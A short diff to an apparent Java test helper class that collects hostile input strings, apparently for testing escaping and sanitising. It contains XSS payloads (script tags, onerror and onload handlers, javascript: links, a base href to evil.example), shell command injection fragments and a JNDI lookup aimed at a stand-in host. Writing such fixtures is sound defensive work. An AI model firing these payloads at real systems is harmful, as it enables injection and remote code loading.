@@ -12,6 +12,10 @@ final class Danger {
             + "@here <https://evil.example|ok> [ok](https://evil.example) www.evil.example &lt;b&gt; '; id; # \"$(id)\" "
             + "${jndi:ldap://evil.example} \uDFFF";
 
+    /// One text with what would leave its place in a page.
+    static final String MARKUP = "\"><script>alert(1)</script><img src=x onerror=alert(1)>'><svg/onload=alert(1)>]]>-->"
+            + "</style></title></pre><a href=\"javascript:alert(1)\">&lt;&#60;\u2028 </a><base href=//evil.example>";
+
     /// Written apart from what the program does: categories as the regular expressions of the platform know them.
     private static final Pattern UNSEEN = Pattern
             .compile("[\\p{Cc}\\p{Cf}\\p{Cs}\\p{Co}\\p{Cn}\\p{Zl}\\p{Zp}\\x{FE00}-\\x{FE0F}\\x{E0100}-\\x{E01EF}]");
